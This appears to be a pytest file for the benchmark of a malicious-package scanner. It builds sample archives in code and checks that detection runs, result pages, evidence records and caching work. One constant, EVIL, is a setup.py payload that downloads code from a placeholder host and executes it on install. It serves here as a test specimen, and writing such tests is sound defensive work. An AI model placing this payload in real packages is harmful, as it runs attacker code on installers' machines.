"""A whole run on a corpus made in code, and a glance at the real one where it lies."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest

from antivenom.lab import promoting
from antivenom.rules.book import PAGES
from antivenom.rules.page import read_page
from antivenom.store.sealed import seal as sealed_zip
from bench import corpus, kept, measure, page
from bench.__main__ import main
from tests.builders.archives import sdist, wheel

EVIL = b"import os, urllib.request\nexec(urllib.request.urlopen('https://stage.invalid').read())\n"


def table(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture
def small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Two specimens of ours and two ordinary packages, in both parts."""
    hostile = {f"demo{n}/1.0/demo{n}-1.0.tar.gz": sdist({"setup.py": EVIL}) for n in (1, 2)}
    (tmp_path / "malware-dev.zip").write_bytes(sealed_zip(hostile, b"infected"))
    specimens, ordinary, peers = [], [], []
    for number, (path, data) in enumerate(hostile.items()):
        row = {"path": path, "sha256": hashlib.sha256(data).hexdigest(), "behaviour_tags": ""}
        ids = {"cluster_id": f"c{number}", "family_id": f"f{number}"}
        specimens.append({**row, **ids, "part": corpus.PARTS[number]})
    (tmp_path / "benign-dev").mkdir()
    for number, part in enumerate(corpus.PARTS):
        data = wheel({f"plain{number}.py": "x = 1\n"}, name=f"plain{number}")
        name = f"plain{number}-1.0-py3-none-any.whl"
        (tmp_path / "benign-dev" / name).write_bytes(data)
        sha256 = hashlib.sha256(data).hexdigest()
        ordinary.append({"stratum": "popular", "filename": name, "sha256": sha256, "part": part})
        peers.append({"sha256": sha256, "gd": "9.0", "hx": "", "hx_high": "0"})
    table(tmp_path / "malware-dev.csv", specimens)
    table(tmp_path / "benign-dev.csv", ordinary)
    table(tmp_path / "peers-dev.csv", peers)
    monkeypatch.setattr(corpus, "CORPUS", tmp_path)
    monkeypatch.setattr(page, "RESULTS", tmp_path / "out" / "bench.json")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path


def test_a_run_measures_both_kinds(small: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--dry", "--no-speed", "--no-live", "--evaluation", "--jobs", "1"]) == 0
    lines = capsys.readouterr().out.splitlines()
    row = next(line for line in lines if line.startswith("| suspicious or worse "))
    assert row.count("100.0% of 1 ") == 2
    assert any(line.startswith("| all ") and "| both" in line for line in lines)
    results = (small / "out" / "bench.json").read_text()
    assert "demo1-1.0.tar.gz" in results
    assert "demo2" not in results


def test_a_full_run_writes_the_page_and_the_evidence(
    small: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(page, "PAGE", small / "benchmarks.md")
    page.PAGE.write_text(f"# Page\n\n{page.BEGIN}old\n{page.END}tail\n")
    rule = "execution/downloads-then-runs"
    copy = small / "book" / f"{rule}.md"
    copy.parent.mkdir(parents=True)
    copy.write_text((PAGES / f"{rule}.md").read_text())
    monkeypatch.setattr(promoting, "PAGES", small / "book")
    assert main(["--no-speed", "--no-live", "--jobs", "1"]) == 0
    text = page.PAGE.read_text()
    assert "### Malware found" in text
    assert "\nold\n" not in text
    assert text.endswith("tail\n")
    found = read_page(copy).header.evidence
    assert found is not None
    assert (found.clusters, found.ordinary, found.data) == (2, 0, corpus.data_hash())
    assert "1 pages have new evidence" in capsys.readouterr().out


def test_what_was_observed_is_judged_again(small: Path) -> None:
    samples = [*corpus.malware(), *corpus.benign()]
    known = measure.knowledge(evaluation=True)
    once, again = kept.measure(samples, known), kept.measure(samples, known)
    fresh = measure.measure(samples, known, jobs=1)
    for one, two, three in zip(once, again, fresh, strict=True):
        assert one == two
        assert (one.outcome.verdict, one.outcome.score) == (
            three.outcome.verdict,
            three.outcome.score,
        )
    stored = next((small / "cache" / "antivenom" / "bench").iterdir()).read_text()
    assert "exec(urllib" not in stored


def test_other_bytes_than_the_index_names_are_not_measured(small: Path) -> None:
    path = next((small / "benign-dev").iterdir())
    path.write_bytes(path.read_bytes() + b"x")
    sample = next(s for s in corpus.benign() if s.path == path.name)
    outcome = measure.measure([sample], measure.knowledge(), jobs=1)[0].outcome
    assert outcome.verdict == "inconclusive"
    assert "not the bytes" in outcome.error


def test_no_corpus_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(corpus, "CORPUS", tmp_path)
    assert main(["--quick"]) == 2
    assert "no corpus" in capsys.readouterr().err


def test_only_the_marked_part_of_the_page_is_written() -> None:
    text = page.PAGE.read_text()
    once = page.between(text, "new")
    assert page.between(once, "new") == once
    assert once.partition(page.BEGIN)[0] == text.partition(page.BEGIN)[0]
    with pytest.raises(ValueError, match="markers"):
        page.between("# Page\n", "new")


def test_noise_stays_a_short_list_of_study_specimens() -> None:
    if not corpus.present():
        pytest.skip("the development corpus is not beside the project")
    noise = [row["sha256"] for row in corpus.rows(corpus.HERE / "noise.csv")]
    assert len(noise) == len(set(noise)) <= 40
    assert set(noise) <= {s.sha256 for s in corpus.malware() if s.part == "study"}


def test_the_real_corpus_can_be_read() -> None:
    if not corpus.present():
        pytest.skip("the development corpus is not beside the project")
    study = [s for s in (*corpus.malware()[:40], *corpus.benign()[:2]) if s.part == "study"]
    smallest = sorted(corpus.malware(), key=lambda s: s.sha256)[:3]
    found = measure.measure([*study[-2:], *smallest], measure.knowledge(), jobs=1)
    assert [one.outcome.error for one in found] == [""] * 5
